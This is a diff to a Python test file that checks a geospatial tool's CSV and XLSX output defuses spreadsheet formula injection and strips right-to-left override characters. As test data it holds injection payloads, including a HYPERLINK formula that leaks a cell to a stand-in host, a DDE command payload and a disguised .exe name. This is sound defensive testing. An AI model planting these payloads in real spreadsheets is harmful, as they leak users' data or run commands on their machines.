@@ -3,8 +3,11 @@ GeoPackage; any text a user's cells hold comes back unchanged."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import re
+from pathlib import Path
 
 import geopandas as gpd
 import numpy as np
@@ -16,6 +19,7 @@ from openpyxl import load_workbook
 from shapely.geometry import Point
 
 from iszones.errors import DataFileError
+from iszones.inputs.text import spreadsheet_text
 from iszones.results import output_format, result_bytes, write_result
 
 from .conftest import X0, Y0
@@ -40,7 +44,7 @@ def test_csv_has_a_bom_true_false_and_empty_for_unknown(result):
     text = result_bytes(result, ".csv").decode("utf-8")
     assert text.startswith("\ufeffname,tags,in_zone")
     lines = text.lstrip("\ufeff").splitlines()
-    assert lines[1] == '=1+1,"[""a"", ""b""]",true,0.0,'
+    assert lines[1] == '\'=1+1,"[""a"", ""b""]",true,0.0,'  # the formula made inert
     assert lines[3] == "z,,,,no coordinates"
     assert (
         "wkt" in result_bytes(result, ".csv", include_wkt=True).decode("utf-8-sig").splitlines()[0]
@@ -52,7 +56,7 @@ def test_xlsx_keeps_text_as_text_and_booleans_as_booleans(result):
     rows = list(book.active.iter_rows(values_only=True))
     assert rows[0] == ("name", "tags", "in_zone", "nearest_zone_distance_m", "problem")
     assert rows[1] == (
-        "=1+1",
+        "'=1+1",
         '["a", "b"]',
         True,
         0,
@@ -87,7 +91,8 @@ def test_output_format_by_extension(tmp_path):
     )
 )
 def test_csv_cells_survive_a_round_trip(names):
-    """Whatever text a user's names hold, the checked CSV gives it back unchanged."""
+    """Whatever text a user's names hold, the checked CSV gives it back as spreadsheet_text made
+    it: unchanged, but for a leading apostrophe before a formula and no bidi controls."""
     frame = gpd.GeoDataFrame(
         {"name": names}, geometry=[Point(X0, Y0)] * len(names), crs="EPSG:27700"
     )
@@ -98,4 +103,59 @@ def test_csv_cells_survive_a_round_trip(names):
         skip_blank_lines=False,  # a lone value of spaces is a row, not a blank line
         encoding="utf-8-sig",
     )
-    assert back["name"].tolist() == [n for n in names]
+    assert back["name"].tolist() == [spreadsheet_text(n) for n in names]
+
+
+HOSTILE_CELLS = {
+    '=HYPERLINK("http://x.example/?"&A1,"Click")': "'=HYPERLINK",
+    "+cmd|' /C calc'!A0": "'+cmd|",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A2)": "'@SUM",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "-1.5": "-1.5",  # a number written as text stays a number
+    "+44": "+44",
+    "1e308": "1e308",
+    "Plot \u202egpj.exe": "Plot gpj.exe",  # right-to-left override dropped
+}
+
+
+def test_csv_and_xlsx_neutralise_formulas_but_never_numbers():
+    """OWASP: text starting with = + - @ tab or CR gets a leading apostrophe; numbers never."""
+    texts = list(HOSTILE_CELLS)
+    frame = gpd.GeoDataFrame(
+        {
+            "=col": texts,  # a column name is a cell too
+            "lon": [-1.5] * len(texts),
+            "text_lon": ["-1.5"] * len(texts),
+        },
+        geometry=[Point(X0, Y0)] * len(texts),
+        crs="EPSG:27700",
+    )
+    raw = result_bytes(frame, ".csv")
+    header, *rows = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
+    assert header == ["'=col", "lon", "text_lon"]
+    for row, want in zip(rows, HOSTILE_CELLS.values(), strict=True):
+        assert row[0].startswith(want), (row[0], want)
+    assert {(r[1], r[2]) for r in rows} == {("-1.5", "-1.5")}
+    assert b'"\'\r=1+1"' in raw  # a field with a carriage return is quoted
+    book = load_workbook(io.BytesIO(result_bytes(frame, ".xlsx")))
+    rows = list(book.active.iter_rows(values_only=True))
+    assert rows[0] == ("'=col", "lon", "text_lon")
+    # (XML reads a carriage return back as a line feed)
+    wanted = [w.replace("\r", "\n") for w in HOSTILE_CELLS.values()]
+    assert [r[0][: len(w)] for r, w in zip(rows[1:], wanted, strict=True)] == wanted
+    assert {r[1] for r in rows[1:]} == {-1.5}  # a number cell, not text
+
+
+def test_one_choke_point_for_spreadsheet_cells():
+    """Every CSV/XLSX writer calls inputs.text; no module keeps its own list of formula starts."""
+    root = Path(__file__).resolve().parent.parent
+    sources = [root / "app.py", *root.glob("pages/*.py"), *root.glob("iszones/**/*.py")]
+    own = [
+        str(path.relative_to(root))
+        for path in sources
+        if path.name != "text.py" and re.search(r"""["']=["'],\s*["']\+["']""", path.read_text())
+    ]
+    assert own == []
+    assert "safe_cell as _safe_cell" in (root / "app.py").read_text()
